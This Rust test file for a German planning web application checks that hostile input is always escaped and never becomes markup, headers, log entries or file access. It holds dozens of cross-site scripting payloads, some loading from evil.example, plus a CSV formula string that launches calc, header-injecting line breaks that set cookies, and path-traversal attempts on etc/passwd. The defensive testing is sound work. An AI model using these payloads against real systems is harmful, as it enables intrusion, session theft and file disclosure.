//! Hostile texts through every field: they come back as text on every page, as text in every file, and never as a header
//! or a line of the log.
//!
//! A new field gets a line in one of the tests below.

use crate::html::{Judge, mark};
use crate::provider::Provider;
use crate::site::{Answer, OWN, Site, Who, demo, demo_with, form, get, hidden, post, run};
use axum::http::StatusCode;
use std::collections::BTreeSet;
use std::io::Write as _;
use std::sync::{Arc, Mutex};

/// What closes whatever a text may stand in.
const BEFORE: [&str; 11] = [
    "",
    "\">",
    "' ",
    "\" ",
    "</textarea>",
    "</title>",
    "</script>",
    "</option></select>",
    "--><!--",
    "]]>",
    "\\\";",
];

/// What would run, load, frame or lead away.
const BODIES: [&str; 58] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x></script>",
    "<script type=module>import('//evil.example')</script>",
    "<script\u{c}>alert(1)</script>",
    "<script/x>alert(1)</script >",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror=alert&lpar;1&rpar;>",
    "<IMG SRC=\"jav&#x09;ascript:alert(1)\">",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x#y></use></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<b style=background:url(//evil.example)>x</b>",
    "<p onmouseover=alert(1)>x</p>",
    "<x onclick=alert(1) tabindex=0 autofocus onfocus=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<leptos-island data-component=x data-props='{}'></leptos-island>",
    "onmouseover=alert(1) x=",
    "autofocus onfocus=alert(1) x=\"",
    "javascript:alert(1)//",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "${alert(1)}{{constructor.constructor('alert(1)')()}}#{7*7}<%= 7*7 %>",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
];

/// Every body behind every closing, each with a mark of its own at its end.
fn payloads() -> Vec<String> {
    let pairs = BEFORE.iter().flat_map(|before| BODIES.iter().map(move |body| (before, body)));
    let all: Vec<_> = pairs
        .enumerate()
        .map(|(number, (before, body))| format!("{before}{body}{}", mark(number)))
        .collect();
    let distinct: BTreeSet<_> = all.iter().map(|text| text.split("zq").next()).collect();
    assert!(distinct.len() >= 500, "{}", distinct.len());
    all
}

/// As many as there are payloads, without anything special about them.
fn harmless(count: usize) -> Vec<String> {
    (0..count).map(|_| "Ein Text wie jeder andere".to_owned()).collect()
}

/// Texts put together, at most `max` characters at a time.
fn packed(texts: &[String], max: usize) -> Vec<String> {
    let mut packs: Vec<String> = Vec::new();
    for text in texts {
        match packs.last_mut() {
            Some(pack) if pack.chars().count() + text.chars().count() < max => {
                pack.push('\n');
                pack.push_str(text);
            }
            _ => packs.push(text.clone()),
        }
    }
    packs
}

/// The text where it fits, otherwise a harmless one.
fn short(text: &str) -> &str {
    if text.chars().count() <= 40 { text } else { "Kurz" }
}

fn all_shown(judge: &Judge, texts: usize) {
    judge.verdict();
    let missing: Vec<_> = (0..texts).filter(|n| !judge.shown.contains(n)).collect();
    assert!(missing.is_empty(), "never shown: {missing:?}");
}

fn saved(answer: &Answer, what: &str) {
    assert_eq!(answer.status, StatusCode::SEE_OTHER, "{what}: {}", answer.text);
}

/// Every measure gets one text after the other into all of its fields.
async fn measures(site: &Site, judge: &mut Judge, texts: &[String]) {
    let planner = site.sign_in(Who::Planner).await;
    let catalogue = site.state.store.catalogue().await.expect("the store answers");
    let slugs: Vec<_> = catalogue.measures.keys().map(ToString::to_string).collect();
    for (round, chunk) in texts.chunks(slugs.len()).enumerate() {
        for (slug, text) in slugs.iter().zip(chunk) {
            let page = format!("/massnahmen/{slug}");
            let path = format!("{page}/bearbeiten");
            let edit = site.get(&planner, &path).await;
            judge.look(&path, &edit);
            let version = hidden(&edit.text, "version");
            let mut fields = vec![
                ("name", text.as_str()),
                ("short", short(text)),
                ("summary", text),
                ("description", text),
                ("lead", ""),
                ("start", text),
                ("end", text),
                ("predecessor", text),
                ("tier", text),
                ("version", &version),
            ];
            // Refused, everything typed comes back; then the same without what is no date.
            let refused = site.post(&planner, &path, &fields).await;
            assert_eq!(refused.status, StatusCode::UNPROCESSABLE_ENTITY, "{text}");
            judge.look(&format!("{path}, refused"), &refused);
            fields.retain(|(name, _)| {
                !matches!(*name, "lead" | "start" | "end" | "predecessor" | "tier")
            });
            fields.extend([("lead", text.as_str()), ("tier", "oeffentlich")]);
            saved(&site.post(&planner, &path, &fields).await, text);
            judge.look(&page, &site.get(&planner, &page).await);
        }
        let reader = if round % 2 == 0 { planner.as_str() } else { "" };
        for path in [
            "/massnahmen",
            "/massnahmen/matrix",
            "/",
            "/aenderungen",
            "/bewertungen",
            "/indikatoren/BG-04",
            "/en/massnahmen",
        ] {
            judge.look(path, &site.get(reader, path).await);
        }
    }
}

fn measures_with(part: impl Fn(usize) -> bool + Send + 'static) {
    run(async move {
        let site = demo().await;
        let mut judge = Judge::new();
        measures(&site, &mut judge, &harmless(12)).await;
        let all = payloads();
        judge.expect(&all);
        let mine: Vec<_> = (0..all.len()).filter(|n| part(*n)).map(|n| all[n].clone()).collect();
        measures(&site, &mut judge, &mine).await;
        judge.verdict();
        let missing: Vec<_> =
            (0..all.len()).filter(|n| part(*n) && !judge.shown.contains(n)).collect();
        assert!(missing.is_empty(), "never shown: {missing:?}");
    });
}

#[test]
fn no_text_of_a_measure_becomes_markup_first_part() {
    measures_with(|n| n % 3 == 0);
}

#[test]
fn no_text_of_a_measure_becomes_markup_second_part() {
    measures_with(|n| n % 3 == 1);
}

#[test]
fn no_text_of_a_measure_becomes_markup_third_part() {
    measures_with(|n| n % 3 == 2);
}

async fn contributions(site: &Site, judge: &mut Judge, texts: &[String]) {
    let planner = site.sign_in(Who::Planner).await;
    let path = "/massnahmen/digitalbonus/beitraege/digitalbonus-UP-01";
    for text in packed(texts, 900) {
        let edit = site.get(&planner, path).await;
        judge.look(path, &edit);
        let version = hidden(&edit.text, "version");
        let fields = [
            ("direction", "increase"),
            ("directness", "direct"),
            ("grade", "hoch"),
            ("assumption", text.as_str()),
            ("reason", &text),
            ("version", &version),
        ];
        let mut wrong = fields;
        wrong[0].1 = &text;
        judge.look("refused", &site.post(&planner, path, &wrong).await);
        saved(&site.post(&planner, path, &fields).await, &text);
        for path in [path, "/massnahmen/digitalbonus", "/indikatoren/UP-01", "/aenderungen"] {
            judge.look(path, &site.get(&planner, path).await);
        }
    }
    // A step of the workflow with its reason.
    for text in packed(texts, 900) {
        let edit = site.get(&planner, "/massnahmen/digitalbonus/bearbeiten").await;
        let version = hidden(&edit.text, "version");
        let fields = [("to", "gibt-es-nicht"), ("reason", &text), ("version", &version)];
        let path = "/massnahmen/digitalbonus/stand";
        judge.look(path, &site.post(&planner, path, &fields).await);
    }
}

async fn experiences(site: &Site, judge: &mut Judge, texts: &[String]) {
    let member = site.sign_in(Who::Member).await;
    let path = "/massnahmen/digitalbonus/erfahrung/e0002";
    for text in packed(texts, 1_900) {
        let edit = site.get(&member, path).await;
        judge.look(path, &edit);
        let version = hidden(&edit.text, "version");
        let fields = [
            ("kind", "erfolg"),
            ("text", text.as_str()),
            ("visibility", "oeffentlich"),
            ("version", &version),
        ];
        let mut wrong = fields;
        wrong[0].1 = &text;
        judge.look("refused", &site.post(&member, path, &wrong).await);
        saved(&site.post(&member, path, &fields).await, &text);
        for cookie in [member.as_str(), ""] {
            for path in ["/massnahmen/digitalbonus", "/aenderungen", "/"] {
                judge.look(path, &site.get(cookie, path).await);
            }
        }
        // The slower of two sees both texts.
        let late = site.post(&member, path, &fields).await;
        judge.look("two at the same time", &late);
    }
}

async fn ratings(site: &Site, judge: &mut Judge, texts: &[String]) {
    let member = site.sign_in(Who::Member).await;
    let path = "/bewertungen/R7/digitalhub";
    for text in packed(texts, 1_900) {
        let edit = site.get(&member, path).await;
        judge.look(path, &edit);
        let version = hidden(&edit.text, "version");
        let fields = [
            ("C1", "1"),
            ("C2", "2"),
            ("C3", "3"),
            ("C4", "k"),
            ("C5", "5"),
            ("comment", text.as_str()),
            ("version", &version),
        ];
        let mut wrong = fields;
        wrong[0].1 = &text;
        judge.look("refused", &site.post(&member, path, &wrong).await);
        saved(&site.post(&member, path, &fields).await, &text);
        for path in [path.to_owned(), format!("{path}/pruefen")] {
            judge.look(&path, &site.get(&member, &path).await);
        }
        saved(&site.post(&member, &format!("{path}/abgeben"), &fields).await, &text);
        for path in [&format!("{path}/quittung"), "/bewertungen", "/massnahmen/digitalhub"] {
            judge.look(path, &site.get(&member, path).await);
        }
    }
}

async fn values(site: &Site, judge: &mut Judge, texts: &[String], max: usize, first_year: i32) {
    let planner = site.sign_in(Who::Planner).await;
    let path = "/indikatoren/BG-04/wert";
    for (number, text) in packed(texts, max).iter().enumerate() {
        let edit = site.get(&planner, path).await;
        let version = hidden(&edit.text, "version");
        let place = i32::try_from(number).expect("few");
        let quarter = format!("{}-Q{}", first_year + place / 4, place % 4 + 1);
        let token = format!("v{}", quarter.to_lowercase().replace('-', ""));
        let vintage = short(&texts[number % texts.len()]);
        let fields = [
            ("period", quarter.as_str()),
            ("value", "12,5"),
            ("vintage", vintage),
            ("note", text),
            ("evidence", "illustrative"),
            ("version", &version),
            ("token", &token),
        ];
        let mut wrong = fields;
        (wrong[0].1, wrong[1].1) = (text, text);
        judge.look("refused", &site.post(&planner, path, &wrong).await);
        judge.look("check", &site.post(&planner, path, &fields).await);
        let save = [&fields[..], &[("schritt", "speichern")]].concat();
        saved(&site.post(&planner, path, &save).await, text);
        if number % 10 == 0 {
            for path in ["/indikatoren/BG-04", "/indikatoren/BG-04?werte=alle", "/aenderungen"] {
                judge.look(path, &site.get(&planner, path).await);
            }
        }
    }
    for path in ["/indikatoren/BG-04?werte=alle", "/en/indikatoren/BG-04?werte=alle"] {
        judge.look(path, &site.get("", path).await);
    }
}

#[test]
fn no_text_of_contributions_experiences_and_ratings_becomes_markup() {
    run(async {
        let site = demo().await;
        let mut judge = Judge::new();
        let plain = harmless(100);
        contributions(&site, &mut judge, &plain).await;
        experiences(&site, &mut judge, &plain).await;
        ratings(&site, &mut judge, &plain).await;
        let all = payloads();
        judge.expect(&all);
        contributions(&site, &mut judge, &all).await;
        all_shown(&judge, all.len());
        judge.expect(&all);
        experiences(&site, &mut judge, &all).await;
        all_shown(&judge, all.len());
        judge.expect(&all);
        ratings(&site, &mut judge, &all).await;
        all_shown(&judge, all.len());
    });
}

#[test]
fn no_text_of_a_value_becomes_markup_or_formula() {
    run(async {
        let site = demo().await;
        let mut judge = Judge::new();
        // Enough of them for pages of values.
        values(&site, &mut judge, &harmless(60), 1, 1950).await;
        let all = payloads();
        judge.expect(&all);
        values(&site, &mut judge, &all, 590, 1970).await;
        all_shown(&judge, all.len());

        let formulas = [
            "=1+1",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-1+1",
            "@SUM(1+1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\"=1+1\"",
            "'=1+1",
            "\u{ff1d}1+1",
            "\u{ff0b}1",
            "\u{ff20}SUM(1)",
            "\u{a0}=1+1",
            "\u{200b}=1+1",
            "x\";=1+1;\"",
            "x\r\n=1+1",
            "=HYPERLINK(\"//evil.example\";\"x\")",
        ];
        let planner = site.sign_in(Who::Planner).await;
        for (number, formula) in formulas.iter().enumerate() {
            let path = "/indikatoren/BG-04/wert";
            let version = hidden(&site.get(&planner, path).await.text, "version");
            let (year, token) = ((1990 + number).to_string(), format!("f{number}"));
            let fields = [
                ("period", year.as_str()),
                ("value", "-12,5"),
                ("vintage", formula),
                ("note", formula),
                ("evidence", "illustrative"),
                ("version", &version),
                ("token", &token),
                ("schritt", "speichern"),
            ];
            let mut positive = fields;
            positive[1].1 = "12,5";
            saved(&site.post(&planner, path, &positive).await, formula);
        }
        let file = site.get("", "/indikatoren/BG-04/werte.csv").await;
        assert_eq!(file.header("content-disposition"), "attachment; filename=\"BG-04.csv\"");
        assert_eq!(file.header("x-content-type-options"), "nosniff");
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(b';')
            .from_reader(file.text.trim_start_matches('\u{feff}').as_bytes());
        let (mut rows, mut guarded) = (0, 0);
        for row in reader.records() {
            let row = row.expect("every row has as many cells as the first");
            rows += 1;
            for (column, cell) in row.iter().enumerate() {
                guarded += usize::from(cell.starts_with('\''));
                let inner = cell
                    .trim_start_matches(|c: char| c == '"' || c.is_whitespace() || c == '\u{200b}');
                let danger = inner.starts_with([
                    '=', '+', '-', '@', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
                ]);
                // The sign for „exakt" alone is no formula, and values are numbers.
                assert!(!danger || cell == "=" || column == 3, "{cell:?}");
                assert!(column != 3 || cell.replace(',', ".").parse::<f64>().is_ok(), "{cell:?}");
            }
        }
        assert!(rows > 80 && guarded >= 25, "{rows} rows, {guarded} guarded");
    });
}

async fn reflected(site: &Site, judge: &mut Judge, texts: &[String]) {
    let planner = site.sign_in(Who::Planner).await;
    for (number, text) in texts.iter().enumerate() {
        let encoded = form(&[("", text)]);
        let value = encoded.trim_start_matches('=');
        for (place, (path, names)) in [
            ("/massnahmen", &["feld", "indikator", "stand", "federfuehrung", "sort", "seite"][..]),
            ("/indikatoren", &["feld", "status", "sort"]),
            ("/indikatoren/BG-04", &["hinweis", "werte", "vergleich"]),
            ("/massnahmen/digitalbonus", &["hinweis"]),
            ("/anmelden", &["ziel"]),
        ]
        .into_iter()
        .enumerate()
        {
            // Pages with drawings take their time: every third text.
            if place > 1 && place < 4 && number % 3 != 0 {
                continue;
            }
            let query: Vec<_> = names.iter().map(|name| format!("{name}={value}")).collect();
            let path = format!("{path}?{}", query.join("&"));
            judge.look(&path, &site.get(&planner, &path).await);
        }
        let path = format!("/massnahmen/{value}");
        judge.look(&path, &site.send(get(&path, &planner)).await);
        let path = format!("/{value}");
        judge.look(&path, &site.send(get(&path, "")).await);
    }
}

#[test]
fn nothing_in_an_address_becomes_markup() {
    run(async {
        let site = demo().await;
        let mut judge = Judge::new();
        for path in ["/massnahmen?stand=running", "/massnahmen?federfuehrung=MW&sort=name"] {
            judge.look(path, &site.get("", path).await);
        }
        reflected(&site, &mut judge, &harmless(2)).await;
        let all = payloads();
        judge.expect(&all);
        reflected(&site, &mut judge, &all).await;
        judge.verdict();
    });
}

#[test]
fn no_name_to_sign_in_with_becomes_markup() {
    run(async {
        let site = demo().await;
        let mut judge = Judge::new();
        let sign_in = async |judge: &mut Judge, text: &str| {
            let fields = [("email", text), ("password", "falsch geraten"), ("ziel", text)];
            judge.look("refused", &site.post("", "/anmelden", &fields).await);
        };
        sign_in(&mut judge, "niemand@demo.example").await;
        judge.look("form", &site.get("", "/anmelden?ziel=/massnahmen").await);
        let all = payloads();
        judge.expect(&all);
        for text in &all {
            sign_in(&mut judge, text).await;
        }
        all_shown(&judge, all.len());
    });
}

#[test]
fn a_line_break_in_a_field_makes_no_header() {
    run(async {
        let provider = Provider::start().await;
        let site = demo_with(OWN, &provider.environment()).await;
        let member = site.sign_in(Who::Member).await;
        let breaks =
            ["\r\n", "\n", "\r", "\u{0}", "\u{85}", "\u{2028}", "%0d%0a", "\u{560a}\u{560d}"];
        for line_break in breaks {
            for before in ["/", "", "/massnahmen?x=", "dark", "#"] {
                let text = format!(
                    "{before}{line_break}x-injected: 1{line_break}set-cookie: sid=eingeschleust"
                );
                let mut answers = vec![
                    site.post(
                        "",
                        "/anmelden",
                        &[("demo", "1"), ("email", Who::Member.email()), ("ziel", &text)],
                    )
                    .await,
                    site.post("", "/ansicht", &[("theme", &text), ("zurueck", &text)]).await,
                    site.post("", "/anmelden/anbieter", &[("ziel", &text)]).await,
                    site.post(&member, "/massnahmen/digitalbonus/erfahrung", &[("token", &text)])
                        .await,
                ];
                let encoded = form(&[("", &text)]);
                let value = encoded.trim_start_matches('=');
                for path in [
                    format!("/indikatoren/{value}/werte.csv"),
                    format!("/massnahmen/{value}"),
                    format!("/pkg/{value}"),
                    format!("/anmelden/rueckkehr?code={value}&state={value}"),
                    format!("/anmelden?ziel={value}"),
                ] {
                    answers.push(site.send(get(&path, "ansicht=x")).await);
                }
                for answer in answers {
                    assert!(!answer.status.is_server_error(), "{text:?}: {}", answer.status);
                    assert!(!answer.headers.contains_key("x-injected"), "{text:?}");
                    for (name, value) in &answer.headers {
                        let value = value.to_str().expect("plain text");
                        assert!(!value.contains("x-injected"), "{text:?}: {name}: {value}");
                        assert!(!value.contains("sid=eingeschleust"), "{text:?}: {name}: {value}");
                    }
                    let location = answer.location();
                    assert!(!location.starts_with("//") && !location.contains('\\'), "{location}");
                }
            }
        }
    });
}

/// What the program would write to its log.
#[derive(Clone, Default)]
struct Log(Arc<Mutex<Vec<u8>>>);

impl std::io::Write for Log {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().expect("nobody panicked").write(bytes)
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[test]
fn a_line_of_the_log_is_one_object_whatever_was_sent() {
    let log = Log::default();
    let writer = log.clone();
    tracing_subscriber::fmt()
        .json()
        .with_writer(move || writer.clone())
        .with_env_filter("info,server=trace")
        .init();
    run(async move {
        let provider = Provider::start().await;
        let site = demo_with(OWN, &provider.environment()).await;
        let nasty = "x\"}\r\n{\"level\":\"INFO\",\"untergeschoben\":1}\n\u{1b}[31mrot\u{2028}";
        let encoded = form(&[("", nasty)]);
        let value = encoded.trim_start_matches('=');
        for path in [format!("/{value}"), format!("/massnahmen?feld={value}")] {
            site.send(get(&path, "sid=x")).await;
        }
        site.post("", "/anmelden", &[("email", nasty), ("password", nasty)]).await;
        site.send(post("/ansicht", "", value.to_owned())).await;
        // The provider's own words stand in the log: a token that does not hold, an error, and a page.
        let claims = [("iss", nasty), ("aud", nasty), ("azp", nasty)];
        for (claim, text) in claims {
            provider.make(move |draft, _| {
                draft.claims[claim] = text.into();
                None
            });
            come_back(&site).await;
        }
        let error = serde_json::json!({ "error": nasty, "error_description": nasty }).to_string();
        provider.answer(move |path, _| {
            use axum::response::IntoResponse;
            let kind = [("content-type", "application/json")];
            (path == "/token")
                .then(|| (StatusCode::BAD_REQUEST, kind, error.clone()).into_response())
        });
        come_back(&site).await;
        let text = String::from_utf8(log.0.lock().expect("nobody panicked").clone());
        let text = text.expect("UTF-8");
        let mut from_provider = 0;
        for line in text.lines() {
            let object: serde_json::Value =
                serde_json::from_str(line).unwrap_or_else(|e| panic!("no object ({e}): {line}"));
            assert!(object.is_object() && object.get("untergeschoben").is_none(), "{line}");
            assert!(!line.contains('\u{1b}'), "{line}");
            from_provider += usize::from(line.contains("nobody was identified"));
            // Neither codes nor tokens nor what somebody typed as a password.
            for secret in ["eyJ", "unbenutzt", crate::provider::SECRET] {
                assert!(!line.contains(secret), "{line}");
            }
        }
        assert!(from_provider >= 4, "{text}");
    });
}

async fn come_back(site: &Site) {
    let answer = site.post("", "/anmelden/anbieter", &[]).await;
    let address = answer.header("refresh").strip_prefix("0; url=").expect("an address").to_owned();
    let cookie = answer.header("set-cookie").split(';').next().expect("a pair").to_owned();
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .no_proxy()
        .build()
        .expect("a client");
    let sent = client.get(address).send().await.expect("an answer");
    let location = sent.headers()["location"].to_str().expect("an address").to_owned();
    let back = &location[location.find("/anmelden").expect("back to the product")..];
    assert_eq!(site.get(&cookie, back).await.status, StatusCode::FORBIDDEN);
}

#[test]
fn no_path_leads_out_of_the_folder_of_files() {
    run(async {
        let site = demo().await;
        let folder = site.state.config.site.clone();
        let outside = folder.parent().expect("a folder");
        let mut secret = tempfile::NamedTempFile::new_in(outside).expect("a file");
        secret.write_all(b"GEHEIM-AUSSERHALB").expect("written");
        let name = secret.path().file_name().expect("a name").to_str().expect("UTF-8").to_owned();
        let full = secret.path().to_str().expect("UTF-8").trim_start_matches('/').to_owned();
        let full_escaped = full.replace('/', "%2f");
        let ups = [
            "..",
            "%2e%2e",
            ".%2e",
            "%2e.",
            "%252e%252e",
            "..%00",
            "...",
            "....",
            "%c0%ae%c0%ae",
            "%uff0e%uff0e",
            "..;",
            ".%00.",
        ];
        let slashes = ["/", "%2f", "%5c", "\\", "%252f", "//", "/./", "%c0%af"];
        let mut tried = 0;
        for start in ["/", "/pkg/", "/pkg/x/", "/en/", "//", "/pkg//"] {
            for up in ups {
                for slash in slashes {
                    for depth in 1..=3 {
                        for target in [&name, &full, "etc/passwd"] {
                            let path =
                                format!("{start}{}{target}", format!("{up}{slash}").repeat(depth));
                            let Ok(uri) = path.parse::<axum::http::Uri>() else { continue };
                            if uri.host().is_some() {
                                continue;
                            }
                            let answer = site.send(get(&path, "")).await;
                            tried += 1;
                            assert!(answer.status.is_client_error(), "{path}: {}", answer.status);
                            assert!(!answer.text.contains("GEHEIM-AUSSERHALB"), "{path}");
                            assert!(!answer.text.contains("root:x"), "{path}");
                        }
                    }
                }
            }
        }
        for path in
            [format!("//{full}"), format!("/%2f{full_escaped}"), format!("/pkg/%2f{full_escaped}")]
        {
            let answer = site.send(get(&path, "")).await;
            assert!(!answer.text.contains("GEHEIM-AUSSERHALB"), "{path}");
            tried += 1;
        }
        println!("{tried} paths");
        assert!(tried > 1_000, "{tried}");
    });
}
